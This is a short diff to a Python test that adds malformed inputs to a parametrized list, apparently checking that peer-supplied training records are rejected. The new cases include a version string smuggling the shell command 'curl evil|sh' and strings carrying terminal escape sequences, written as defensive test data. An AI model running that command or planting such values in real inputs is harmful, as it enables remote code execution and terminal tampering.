@@ -60,6 +60,11 @@ def test_a_record_is_believed_only_from_its_own_peer_run_and_time(identity: Iden
     "changes",
     [
         {"loss": float("nan")},
+        {"loss": 1.7e308},
+        {"samples_per_second": 1e300},
+        {"version": "9;curl evil|sh"},
+        {"version": "1\x1b[2J"},
+        {"name": "a\x9b2Jb"},
         {"epoch": -1},
         {"epoch": 2**60},
         {"root": "xyz"},
